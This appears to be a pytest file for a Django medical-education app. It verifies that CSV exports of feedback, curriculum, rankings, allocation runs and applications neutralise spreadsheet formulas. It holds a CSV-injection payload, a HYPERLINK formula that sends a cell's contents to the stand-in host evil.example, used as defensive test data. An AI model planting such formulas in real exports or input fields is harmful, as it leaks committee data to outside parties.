"""Every CSV export with a hostile cell: meded/exports.py must neutralise it (a leading
apostrophe), so text a member typed never runs in the committee's spreadsheet.

Covered here: feedback answers, feedback comments, the survey report, the curriculum, rankings,
an allocation run (page and command-line file), applications. The roster has its own test
(tests/tutors/test_recruitment_views.py); the outbox and registers have no export.
"""

import csv
import io

import pytest
from django.urls import reverse

from feedback.models import Question
from meded.exports import FORMULA_STARTS
from tests.factories.allocation import OfferingFactory, accepted_tutor, rank, ranking_round
from tests.factories.core import CommitteeFactory, TopicFactory, UserFactory
from tests.factories.feedback import approve_all_text, give_feedback, past_session
from tests.factories.tutors import ApplicationFactory, RecruitmentRoundFactory
from tutors.allocation.csv import allocation_csv
from tutors.allocation.engine import AllocationResult
from tutors.allocation.services.runs import run_allocation

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
SHORT = "=1+1"


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_neutralised(text: str, hostile: str = HOSTILE) -> None:
    cells = _cells(text)
    assert "'" + hostile in cells, f"the hostile value is missing from the export: {cells[:40]}"
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]


@pytest.fixture
def committee(client):
    user = CommitteeFactory()
    client.force_login(user)
    return user


def _released_session(**kw):
    session, students = past_session(attendees=3, days_ago=40, **kw)
    from datetime import timedelta

    import time_machine

    with time_machine.travel(session.ends_at + timedelta(hours=1), tick=False):
        for student in students:
            give_feedback(student, session, text=HOSTILE)
    return session


def test_feedback_answers_and_comments(client, committee):
    _released_session(title=HOSTILE)
    approve_all_text()
    _assert_neutralised(client.get(reverse("feedback:export")).content.decode())
    _assert_neutralised(client.get(reverse("feedback:comments")).content.decode())


def test_survey_report(client, committee):
    _released_session()
    Question.objects.filter(key="overall").update(text=HOSTILE)
    text = client.get(reverse("feedback:report"), {"format": "csv"}).content.decode()
    _assert_neutralised(text)


def test_curriculum(client, committee):
    TopicFactory(title=HOSTILE)
    _assert_neutralised(client.get(reverse("committee_curriculum_export")).content.decode())


def test_rankings_and_allocation_run(client, committee):
    rnd = ranking_round()
    offering = OfferingFactory(round=rnd, topic=TopicFactory(code=SHORT))
    tutor = accepted_tutor(rnd)
    rank(rnd, tutor, [offering])
    url = reverse("tutors_rankings_export", args=[rnd.pk])
    _assert_neutralised(client.get(url).content.decode(), SHORT)
    run = run_allocation(rnd, committee, seed=1)
    url = reverse("tutors_allocation_export", args=[rnd.pk, run.pk])
    _assert_neutralised(client.get(url).content.decode(), SHORT)
    result = AllocationResult.from_dict(run.result)
    _assert_neutralised(allocation_csv(result), SHORT)


def test_applications(client, committee):
    rnd = RecruitmentRoundFactory(blind_review=False)
    ApplicationFactory(round=rnd, applicant=UserFactory(full_name=HOSTILE))
    url = reverse("tutors_committee_applications", args=[rnd.pk])
    _assert_neutralised(client.get(url, {"format": "csv"}).content.decode())
